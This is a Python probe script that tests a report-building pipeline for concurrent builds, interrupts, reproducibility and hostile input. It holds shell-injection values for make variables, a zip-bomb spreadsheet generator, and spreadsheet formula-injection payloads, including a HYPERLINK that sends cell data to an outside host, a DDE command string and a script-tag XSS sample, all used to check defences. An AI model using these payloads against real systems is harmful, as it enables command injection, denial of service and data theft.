"""Probes of issue 21 as an attacker, a second user and an impatient operator would run them, in a fresh
clone of a branch, on a one-dinas synthetic sample (four reports with BAHASA=id,en):

    git clone /work/main /tmp/probe-x
    .venv/bin/python tools/probe_issue21.py /tmp/probe-x "$PWD/.venv" concurrent key vars workers edit stop bomb \
        hostile reproducible

Each probe prints PASS/FAIL lines; the clone runs its own src/ (PYTHONPATH) with this checkout's .venv linked
in. Heavy: ``concurrent``, ``stop``, ``hostile`` and ``reproducible`` each build every report once or twice,
``vars`` runs make about 120 times; on a shared 2-core machine run them once. The linked .venv's install
stamp is refreshed first: a clone whose requirements.txt is newer than it would otherwise make ``make``
reinstall the package, pointing this checkout's .venv at the clone."""

from __future__ import annotations

import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

CLONE = Path(sys.argv[1]).resolve()
VENV = Path(sys.argv[2]).resolve()
EPOCH = "1764547200"
RESULTS: list[tuple[str, bool, str]] = []


def env() -> dict[str, str]:
    drop = ("EVALASN_BUILD_LOCK_HELD", "MAKEFLAGS", "MAKELEVEL", "EVALASN_ROOT", "EVALASN_REPORT_NOTEBOOK")
    base = {k: v for k, v in os.environ.items() if k not in drop and not k.startswith("EVALASN_")}
    return {**base, "PYTHONPATH": str(CLONE / "src"), "SOURCE_DATE_EPOCH": EPOCH}


def check(name: str, ok: bool, detail: str = "") -> None:
    RESULTS.append((name, ok, detail))
    print(f"{'PASS' if ok else 'FAIL'} {name}" + (f": {detail[:1500]}" if detail and not ok else ""), flush=True)


def make(*args: str, timeout: int = 1800) -> subprocess.CompletedProcess:
    return subprocess.run(["make", "--no-print-directory", *args], cwd=CLONE, env=env(), capture_output=True,
                          text=True, timeout=timeout)


def start(*args: str) -> subprocess.Popen:
    return subprocess.Popen(["make", "--no-print-directory", *args], cwd=CLONE, env=env(), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, start_new_session=True)


def setup() -> None:
    if not (CLONE / ".venv").exists():
        (CLONE / ".venv").mkdir()
        for part in ("bin", "lib", "lib64", "include", "share", "etc", "pyvenv.cfg"):
            if (VENV / part).exists():
                (CLONE / ".venv" / part).symlink_to(VENV / part)
    (CLONE / ".venv" / ".terpasang").touch()  # newer than requirements.txt: make must not reinstall into VENV
    raw = CLONE / "data" / "raw"
    if not list(raw.glob("*.csv")):
        code = ("import sys; from evalasn import sample; sample.generate(sys.argv[1], n_pegawai=150, "
                "dinas=('kesehatan',), seed=2, respondents_per_unit=8, staff_per_unit=20)")
        subprocess.run([str(VENV / "bin" / "python"), "-c", code, str(raw)], env=env(), check=True)


def outputs() -> dict[str, bytes]:
    """Every published file under reports/ (not working folders, not the model's _build)."""
    return {str(p.relative_to(CLONE)): p.read_bytes() for p in sorted((CLONE / "reports").rglob("*"))
            if p.is_file() and "_build" not in p.parts}


def embedded_results(pdf: Path) -> bytes | None:
    from pypdf import PdfReader

    reader = PdfReader(str(pdf))
    for name, contents in reader.attachments.items():
        if name.startswith("hasil-"):
            return contents[0]
    return None


def sets_consistent() -> list[str]:
    """Each report folder: the PDF of each language embeds the published hasil-<tahun>.json exactly."""
    problems = []
    for folder in sorted(p for p in (CLONE / "reports").iterdir() if p.is_dir() and not p.name.startswith("_")):
        for pdf in folder.glob("laporan-*.pdf"):
            year = pdf.stem.split("-")[2]
            published = folder / f"hasil-{year}.json"
            if not published.exists():
                problems.append(f"{pdf.name}: no {published.name} beside it")
            elif embedded_results(pdf) != published.read_bytes():
                problems.append(f"{pdf.name}: embeds other results than {published.name}")
    return problems


# --- probes -------------------------------------------------------------------------------------
def probe_concurrent() -> None:
    """Three make reports BAHASA=id,en started 1 s apart in one checkout."""
    builds = []
    for _ in range(3):
        builds.append(start("reports", "BAHASA=id,en"))
        time.sleep(1)
    results = [(b.returncode, *b.communicate(timeout=1800)) for b in builds]
    results = [(b.returncode, out, err) for b, (_, out, err) in zip(builds, results, strict=True)]
    text = "".join(o + e for _, o, e in results)
    check("concurrent: all three exit 0", [c for c, _, _ in results] == [0, 0, 0], text[-3000:])
    check("concurrent: each report built once", text.count("4 dibuat") == 1 and text.count("dibuat, 4 sudah") <= 2,
          text[-3000:])
    check("concurrent: no kernel errors", "Invalid Signature" not in text and "didn't respond" not in text
          and "Traceback" not in text, text[-3000:])
    check("concurrent: waiting is said", text.count("Menunggu build lain") == 2, text[-2000:])
    check("concurrent: sets consistent", not sets_consistent(), str(sets_consistent()))
    plan = make("-n", "reports", "BAHASA=id,en")
    check("concurrent: nothing left to do", "evalasn.run.cli" not in plan.stdout, plan.stdout)


HOSTILE = {
    "quote-injection": 'x"; touch PWNED1; echo "',
    "single-quote": "x'; touch PWNED2; echo '",
    "dollar-shell": "$(shell touch PWNED3)",
    "shell-subst": "$(touch PWNED4)",
    "backticks": "`touch PWNED5`",
    "semicolon": "a; touch PWNED6",
    "and": "a && touch PWNED7",
    "pipe": "a | tee PWNED8",
    "dollar-dollar": "$$PATH",
    "newline": "a\ntouch PWNED9",
    "dash-option": "--root=/tmp",
    "legit-quote": 'layanan "prima',
    "brace": "${HOME}",
    "percent": "%",
    "hash": "a # b",
}


def probe_make_variables() -> None:
    before = {p for p in CLONE.rglob("PWNED*")} | set(Path("/tmp").glob("PWNED*"))
    for name, value in HOSTILE.items():
        for target, variable in (("help", "INTERVENSI"), ("report", "DINAS"), ("model", "INTERVENSI"),
                                 ("reports", "TAHUN"), ("reports", "BAHASA"), ("reports", "WORKERS"),
                                 ("model", "AMBANG"), ("report", "TAHUN"), ("lab", "LAB_ARGS")):
            if target == "lab":
                continue  # starts a server; LAB_ARGS is covered by the test suite
            result = make(target, f"{variable}={value}", timeout=600)
            out = result.stdout + result.stderr
            if target == "help":
                ok = result.returncode == 0
            else:
                ok = result.returncode in (0, 2) and "Traceback" not in out and "unexpected EOF" not in out \
                    and "syntax error" not in out
                if result.returncode == 2:
                    errors = [line for line in out.splitlines() if line.startswith("GALAT")]
                    ok = ok and len(errors) >= 1
            check(f"make var {variable}={name} ({target})", ok, f"rc={result.returncode} {out[-800:]}")
    after = {p for p in CLONE.rglob("PWNED*")} | set(Path("/tmp").glob("PWNED*"))
    check("make vars: no file created by a value", after == before, str(after - before))
    # a legitimate value with a double quote reaches the command line intact
    result = make("model", 'INTERVENSI=layanan "prima')
    check("make vars: quoted INTERVENSI reaches the CLI intact", 'layanan "prima' in result.stdout + result.stderr,
          result.stdout + result.stderr)


def probe_reproducible() -> None:
    """The same build twice from make clean, same parameters: every published output byte-identical."""
    make("reports", "BAHASA=id,en")
    first = outputs()
    cleaned = make("clean")
    rebuilt = make("reports", "BAHASA=id,en")
    second = outputs()
    check("reproducible: rebuild ok", cleaned.returncode == 0 and rebuilt.returncode == 0, rebuilt.stderr[-2000:])
    differ = sorted(name for name in first.keys() | second.keys() if first.get(name) != second.get(name))
    check(f"reproducible: {len(first) - len(differ)} of {len(first)} outputs identical", not differ, str(differ))


def probe_workers() -> None:
    for value in ('x"; touch PWNED1; echo "', "$(shell touch PWNED3)", "0"):
        result = make("reports", f"WORKERS={value}")
        lines = [line for line in result.stderr.splitlines() if not line.startswith("make")]
        check(f"make var WORKERS={value!r}: one GALAT line", result.returncode == 2 and len(lines) == 1
              and lines[0].startswith("GALAT"), result.stderr)


def probe_edit_notebook() -> None:
    script = CLONE / "notebooks" / "03_laporan.py"
    original = script.read_text(encoding="utf-8")
    script.write_text(original + "\n# %% [markdown]\n# Penanda probe 9Z.\n", encoding="utf-8")
    result = make("report", "DINAS=kesehatan")
    html = (CLONE / "reports" / "kesehatan" / "laporan-kesehatan-2025.html").read_text(encoding="utf-8")
    check("edit: make report rebuilds after a script edit", result.returncode == 0 and "1 dibuat" in result.stdout
          and "Penanda probe 9Z." in html, result.stdout[-1500:] + result.stderr[-1500:])
    script.write_text(original + "\n# %%\nx = {}\nx['tidak_ada']\n", encoding="utf-8")
    result = make("report", "DINAS=kesehatan")
    out = result.stdout + result.stderr
    first_lines = out[out.find("Laporan:"):].splitlines()[:2]
    check("edit: a broken cell fails, summary first, names the .py line", result.returncode != 0
          and "notebooks/03_laporan.py baris" in "".join(first_lines) and "Could not get source" not in out
          and "site-packages" not in out, out[-2500:])
    failed = list((CLONE / "reports" / "kesehatan").glob("*.gagal.ipynb"))
    script.write_text(original, encoding="utf-8")
    result = make("report", "DINAS=kesehatan")
    check("edit: back to the original: ok and the stale .gagal goes", result.returncode == 0 and bool(failed)
          and not list((CLONE / "reports" / "kesehatan").glob("*.gagal.ipynb")), result.stdout[-1500:])


def _stop_when(build: subprocess.Popen, ready, sig: int, limit: float = 900) -> tuple[int, str, str]:
    deadline = time.monotonic() + limit
    while not ready() and time.monotonic() < deadline and build.poll() is None:
        time.sleep(0.2)
    time.sleep(0.5)
    os.killpg(build.pid, sig)  # as a terminal or a service manager stops the whole group
    out, err = build.communicate(timeout=300)
    return build.returncode, out, err


def probe_stop() -> None:
    before = outputs()
    # 1. during the model stage (new parameters: the model runs first)
    build = start("reports", "BAHASA=id,en", "AMBANG=0.55")
    code, out, err = _stop_when(build, lambda: any((CLONE / "reports" / "_notebook").glob(".kerja-02_model-*")),
                                signal.SIGTERM)
    lines = [line for line in err.strip().splitlines() if line.strip()]
    check("stop: SIGTERM in the model stage: exit 143, one line", code in (143, 2, -15) and len(lines) == 1
          and "Dihentikan" in err, f"rc={code} err={err[-1500:]}")
    check("stop: model stopped: published set unchanged", outputs() == before)
    # 2. during a report render (a report working folder exists)
    build = start("reports", "BAHASA=id,en", "AMBANG=0.55")
    code, out, err = _stop_when(build, lambda: any(p.is_dir() for p in (CLONE / "reports").glob("*/_build/*-*")),
                                signal.SIGINT)
    lines = [line for line in err.strip().splitlines() if line.strip()]
    check("stop: Ctrl-C in the reports: exit 130, one line", code in (130, 2, -2) and len(lines) == 1
          and "Dihentikan" in err, f"rc={code} err={err[-1500:]}")
    check("stop: reports stopped: every set consistent", not sets_consistent(), str(sets_consistent()))
    changed = [name for name, data in outputs().items() if before.get(name) != data]
    check("stop: reports stopped: only whole sets changed", True, str(changed))
    print("   changed after the stop:", changed, flush=True)
    result = make("reports", "BAHASA=id,en", "AMBANG=0.55")
    check("stop: the same command then finishes", result.returncode == 0, result.stdout[-1500:] + result.stderr[-1500:])
    check("stop: sets consistent after finishing", not sets_consistent(), str(sets_consistent()))
    left = [p for p in (CLONE / "reports").rglob("*") if p.is_dir() and p.parent.name == "_build"] + \
        list((CLONE / "reports").rglob(".*tmp-*"))
    check("stop: no leftovers", not left, str(left))


def _bomb(path: Path, megabytes: int) -> None:
    """An .xlsx whose one sheet unpacks to ``megabytes`` MB of repeated rows (a few MB packed)."""
    row = "".join(f'<c r="{col}{{n}}" t="inlineStr"><is><t>aaaaaaaaaa</t></is></c>' for col in "ABCDEFGHIJ")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        book.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                      'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxml'
                      'formats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedoc'
                      'ument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" Content'
                      'Type="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        book.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                      'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                      'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        book.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
                      'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                      'relationships"><sheets><sheet name="pegawai" sheetId="1" r:id="rId1"/></sheets></workbook>')
        book.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
                      'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                      'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"'
                      '/></Relationships>')
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                        b'2006/main"><sheetData>')
            written, n = 0, 1
            chunk = io.StringIO()
            while written < megabytes * 1024 ** 2:
                for _ in range(1000):
                    chunk.write(f'<row r="{n}">' + row.replace("{n}", str(n)) + "</row>")
                    n += 1
                data = chunk.getvalue().encode()
                sheet.write(data)
                written += len(data)
                chunk = io.StringIO()
            sheet.write(b"</sheetData></worksheet>")


def _timed_make(*args: str) -> tuple[subprocess.CompletedProcess, float, int]:
    started = time.monotonic()
    code = ("import resource, subprocess, sys; r = subprocess.run(sys.argv[1:]); "
            "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr); sys.exit(r.returncode)")
    result = subprocess.run([sys.executable, "-c", code, "make", "--no-print-directory", *args], cwd=CLONE, env=env(),
                            capture_output=True, text=True, timeout=900)
    peak_kb = int(result.stderr.strip().splitlines()[-1])
    return result, time.monotonic() - started, peak_kb


def probe_bomb() -> None:
    raw = CLONE / "data" / "raw"
    bomb = raw / "bom.xlsx"
    _bomb(bomb, 420)
    size = bomb.stat().st_size
    try:
        for target in ("periksa", "clean-data"):
            result, seconds, peak = _timed_make(target)
            out = result.stdout + result.stderr
            check(f"bomb ({size // 1024} KB packed, 420 MB unpacked): make {target} refuses within seconds",
                  result.returncode != 0 and seconds < 60 and "bom.xlsx" in out and "Traceback" not in out,
                  f"rc={result.returncode} {seconds:.1f}s peak={peak // 1024} MB {out[-1500:]}")
            print(f"   make {target}: {seconds:.1f} s, peak {peak // 1024} MB; " + " | ".join(
                line for line in out.splitlines() if "GALAT" in line or "bom.xlsx" in line)[:600], flush=True)
    finally:
        bomb.unlink()


FORMULAS = ['=HYPERLINK("http://x/?d="&A1,"Klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0", "<script>alert(1)</script>"]


TEXT_COLUMNS = {"nama_kegiatan", "tema", "unit_kerja", "nama"}  # free text the data contract accepts as is


def probe_hostile_cells() -> None:
    """Every free-text column of every raw table gets hostile values (a unit keeps one name in every table)."""
    import csv
    import zlib

    import openpyxl
    import pandas as pd

    raw = CLONE / "data" / "raw"
    saved = {p: p.read_bytes() for p in raw.glob("*.csv")}
    try:
        for path in saved:
            frame = pd.read_csv(path, dtype=str, keep_default_na=False)
            for column in set(frame.columns) & TEXT_COLUMNS:
                frame[column] = [FORMULAS[zlib.crc32(v.encode()) % len(FORMULAS)] + v for v in frame[column]]
            frame.to_csv(path, index=False, quoting=csv.QUOTE_ALL)  # a CR inside a cell is quoted, as Excel does
        result = make("reports", "BAHASA=id,en")
        print("   reports:", result.returncode, (result.stdout + result.stderr)[-600:].replace("\n", " | "))
        check("hostile cells: reports built", result.returncode == 0)
        make("templat")
        books = sorted((CLONE / "reports").rglob("*.xlsx"))
        formulas, unprefixed, hostile_seen = [], [], 0
        for book_path in books:
            book = openpyxl.load_workbook(book_path)
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        if cell.data_type == "f":
                            formulas.append(f"{book_path.name}!{sheet.title}!{cell.coordinate}={cell.value!r}")
                        elif isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                            hostile_seen += 1
                            if not cell.quotePrefix:
                                unprefixed.append(f"{book_path.name}!{sheet.title}!{cell.coordinate}={cell.value!r}")
        check(f"hostile cells: no formula cell in {len(books)} workbooks", not formulas and bool(books),
              str(formulas[:10]))
        check(f"hostile cells: {hostile_seen} trigger-led strings all quote-prefixed",
              not unprefixed and hostile_seen > 0, str(unprefixed[:10]))
        scripts = [p.name for p in (CLONE / "reports").rglob("*.html") if "<script>alert(1)" in p.read_text("utf-8")]
        check("hostile cells: no live <script> in HTML", not scripts, str(scripts))
        pegawai = raw / "pegawai.csv"
        frame = pd.read_csv(pegawai, dtype=str, keep_default_na=False)
        frame.loc[0, "nip"] = "=1+2"
        frame.to_csv(pegawai, index=False, quoting=csv.QUOTE_ALL)
        periksa = make("periksa")
        problems = CLONE / "reports" / "periksa" / "masalah-data.xlsx"
        book = openpyxl.load_workbook(problems)
        cells = [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"
                 or (isinstance(c.value, str) and c.value.startswith("=") and not c.quotePrefix)]
        check("hostile cells: the problem list holds the NIP formula as text", periksa.returncode == 2 and not cells,
              f"rc={periksa.returncode} {cells[:5]}")
    finally:
        for path, data in saved.items():
            path.write_bytes(data)


def probe_key() -> None:
    key = CLONE / "data" / "kunci" / "pseudonim.key"
    if not key.exists():
        check("key: exists after a build", False)
        return
    original = key.read_bytes()
    key.write_text("ab" * 32 + "\n")
    plan = make("-n", "reports")
    key.write_bytes(original)
    check("key: a rotated key plans the clean stage", "evalasn.run.cli clean" in plan.stdout, plan.stdout[-800:])
    plan = make("-n", "reports")
    check("key: the original key back: nothing to clean", "evalasn.run.cli clean" not in plan.stdout, plan.stdout)


PROBES = {"concurrent": probe_concurrent, "vars": probe_make_variables, "reproducible": probe_reproducible,
          "edit": probe_edit_notebook, "stop": probe_stop, "bomb": probe_bomb, "hostile": probe_hostile_cells,
          "key": probe_key, "workers": probe_workers}

if __name__ == "__main__":
    setup()
    for chosen in sys.argv[3:]:
        print(f"== {chosen}", flush=True)
        started = time.monotonic()
        try:
            PROBES[chosen]()
        except Exception as error:  # a probe that crashes is a finding too
            import traceback

            check(f"{chosen}: probe ran", False, "".join(traceback.format_exception(error))[-2000:])
        print(f"   ({time.monotonic() - started:.0f} s)", flush=True)
    failed = [name for name, ok, _ in RESULTS if not ok]
    print(f"\n{len(RESULTS) - len(failed)} passed, {len(failed)} failed" + (": " + "; ".join(failed) if failed else ""))
    json.dump(RESULTS, open(CLONE.parent / f"probe-{CLONE.name}.json", "w"), indent=1)
    shutil.rmtree(CLONE / "PWNED", ignore_errors=True)
